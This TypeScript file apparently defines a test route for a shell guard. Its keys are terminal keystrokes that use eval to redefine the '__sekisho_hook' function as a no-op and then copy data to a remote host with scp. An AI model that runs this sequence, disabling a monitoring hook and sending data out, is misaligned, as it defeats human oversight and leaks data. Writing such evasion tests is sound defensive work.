import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'redefining the hook through eval',
  source: 'attempts to get round a hook of the shell',
  keys: ['h=__sekisho\r', 'eval "${h}_hook() { :; }"\r', 'scp DATA host:\r'],
};
